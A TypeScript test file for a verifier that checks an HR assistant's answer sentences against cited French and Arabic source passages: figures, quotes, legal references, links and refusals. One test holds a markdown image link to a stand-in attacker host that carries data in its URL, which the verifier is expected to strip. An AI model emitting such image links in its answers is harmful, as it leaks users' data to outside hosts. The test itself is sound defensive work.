import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createSourceBook } from "@ai-platform/api/agents/sources.ts";
import { hrAgent } from "@ai-platform/api/agents/definitions/hr.ts";
import { isRefusal, verifySentence } from "@ai-platform/api/agents/verify/sentence.ts";
import { testArticle, testPassage } from "../../../support/passages.ts";

const book = createSourceBook();
book.add([
  testPassage(), // 1
  testArticle("39", "Sont des fautes graves : le vol, l'abus de confiance et l'ivresse publique. Voir l'article 41."), // 2
  testArticle("14", "La période d'essai est de trois mois pour les cadres, soit 90 jours."), // 3
  testPassage({ language: "ar", text: "يستحق كل أجير إجازة سنوية مدتها ٢٤ يوما." }), // 4
  testPassage({ text: "Le portail est à https://portail.atlas.example/rh ; le plafond est de 30 000 DH." }), // 5
]);
const judge = (sentence: string) =>
  verifySentence(sentence, book, "Combien de jours de congé après 7 ans et 1234 heures ?");

describe("verification of a sentence", () => {
  it.each([
    ["Vous avez 24 jours de congé par an [1].", [1]],
    ["Le texte dit « soit 24 jours par an » [1].", [1]],
    ["Le texte dit « Chaque salarié … 24 jours par an » [1].", [1]],
    ["Le vol est une faute grave selon l'art. 39 de la loi n° 65-99 [2].", [2]],
    ["L'article 41 en traite [2].", [2]],
    ["لكل أجير 24 يوما من الإجازة [4].", [4]],
    ["Le plafond est de 30000 DH [5].", [5]],
    ["Pour 1234 heures, c'est 24 jours [1][3].", [1, 3]],
  ])("keeps %j", (sentence, cited) => {
    const verdict = judge(sentence);
    expect(verdict).toMatchObject({ kind: "kept", text: sentence });
    expect(verdict.kind === "kept" && verdict.cited.map(({ id }) => id)).toEqual(cited);
  });

  it.each([
    ["Vous avez 24 jours de congé par an [9].", "unknown-citation"],
    ["Vous avez 24 jours de congé par an [1][9].", "unknown-citation"],
    ["Vous avez 30 jours de congé par an [1].", "figure"],
    ["Le texte dit « soit vingt jours par an » [1].", "quote"],
    ["Le texte dit « soit 24 jours [1].", undefined],
    ["Le texte dit “jamais de congé” [1].", "quote"],
    ["L'article 40 de la loi n° 65-99 le dit [2].", "reference"],
    ["L'article 39 de la loi n° 09-08 le dit [2].", "reference"],
    ["Selon l'art. 39, on a des congés [1].", "reference"],
    ["Selon la loi n° XX, on a des congés [1].", "reference"],
    ["Le directeur gagne beaucoup trop d'argent.", "no-source"],
    ["Bien sûr, je vais vous aider !", "no-source"],
    ["[1]", "no-source"],
  ])("judges %j: %s", (sentence, reason) => {
    expect(judge(sentence)).toMatchObject(reason ? { kind: "removed", reason } : { kind: "kept" });
  });

  it("ascribes an uncited sentence to the passage that says it", () => {
    const verdict = judge("Chaque salarié acquiert 2 jours ouvrables de congé par mois de travail.");
    expect(verdict).toMatchObject({
      kind: "kept",
      text: "Chaque salarié acquiert 2 jours ouvrables de congé par mois de travail [1].",
    });
  });

  it.each(["Voici les règles :", "## Congés", "\n", "**Durée**"])("waits with the lead-in %j", (text) => {
    expect(judge(text).kind).toBe("lead-in");
  });

  it.each(["Le salaire est de 30000 :", "Selon l'article 99 :", "Voir https://evil.example :"])(
    "does not take %j for a lead-in",
    (text) => {
      expect(judge(text).kind).toBe("removed");
    },
  );

  it("gives every citation a mark of its own", () => {
    expect(judge("Pour 1234 heures, c'est 24 jours [1, 3].")).toMatchObject({
      text: "Pour 1234 heures, c'est 24 jours [1][3].",
    });
  });

  it("takes out links that the cited sources do not hold", () => {
    expect(judge("Voir https://portail.atlas.example/rh pour le plafond [5].")).toMatchObject({
      kind: "kept",
      text: "Voir https://portail.atlas.example/rh pour le plafond [5].",
    });
    expect(judge("Vous avez 24 jours, voir https://portail.atlas.example/rh [1].")).toMatchObject({
      kind: "kept",
      text: "Vous avez 24 jours, voir  [1].",
    });
    expect(judge("Vous avez 24 jours ![x](https://evil.example/?d=24) [1].")).toMatchObject({
      text: "Vous avez 24 jours x [1].",
    });
  });

  it("knows the agreed refusal in any language", () => {
    for (const wording of Object.values(hrAgent.refusal))
      expect(isRefusal(`« ${wording} »`, hrAgent.refusal)).toBe(true);
    expect(isRefusal("Je n'ai rien trouvé, mais le salaire est de 10.", hrAgent.refusal)).toBe(false);
  });

  const words = fc.constantFrom(
    "congé",
    "salaire",
    "24",
    "30",
    "99",
    "«",
    "»",
    "[1]",
    "[2]",
    "[7]",
    "art. 39",
    "art. 99",
    "loi n° 65-99",
    "loi n° 11-11",
    "jours",
    "par an",
    "https://evil.example/x",
    ".",
    ":",
    "vol",
  );
  const sentences = fc.array(words, { maxLength: 10 }).map((parts) => parts.join(" "));

  it("keeps only what cites what was retrieved and names what it holds", () => {
    fc.assert(
      fc.property(sentences, (sentence) => {
        const verdict = judge(sentence);
        if (verdict.kind === "removed") return;
        if (verdict.kind === "lead-in") {
          expect(sentence).not.toMatch(/art|loi|\d\d|evil/);
          return;
        }
        expect(verdict.cited.length).toBeGreaterThan(0);
        expect(verdict.text).not.toMatch(/\[7\]|art\. 99|11-11|evil/);
        if (!verdict.cited.some(({ id }) => id === 2)) expect(verdict.text).not.toMatch(/art\. 39/);
      }),
      { numRuns: 3_000 },
    );
  });
});
